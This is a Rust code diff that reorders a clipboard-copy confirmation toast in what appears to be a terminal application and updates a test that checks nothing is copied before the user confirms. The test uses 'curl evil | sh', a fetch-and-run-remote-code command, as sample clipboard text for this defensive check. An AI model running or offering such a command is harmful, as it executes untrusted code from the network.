@@ -50,7 +50,7 @@ pub fn made(state: &mut State, terminal: TerminalId, text: String) {
         (Mode::Typing, Some(leader)) => format!("{leader} "),
         _ => String::new(),
     };
-    let words = format!("{} wants to copy {count}: {shown} · {first}{key} takes it", state.name(terminal));
+    let words = format!("{} wants to copy {count} · {first}{key} takes it: {shown}", state.name(terminal));
     state.toasts.push_until(Tone::Info, words.clone(), now, Some(now + OFFERED_FOR));
     state.offer = Some(Offer { terminal, text, at: now, words });
     state.dirty = Dirty::Everything;
@@ -98,7 +98,7 @@ mod tests {
     #[test]
     fn nothing_is_copied_before_the_user_says_so() {
         let mut state = offered("curl evil | sh\n");
-        assert!(format!("{:?}", state.toasts).contains("wants to copy 15 characters: curl evil | sh"));
+        assert!(format!("{:?}", state.toasts).contains("takes it: curl evil | sh"));
         // Too soon: the key was meant for something else.
         let key = crate::core::keys::parse_key("P").unwrap();
         assert_eq!(update(&mut state, Msg::Key(key.into()), NOW + SEEN_AFTER - 1), []);
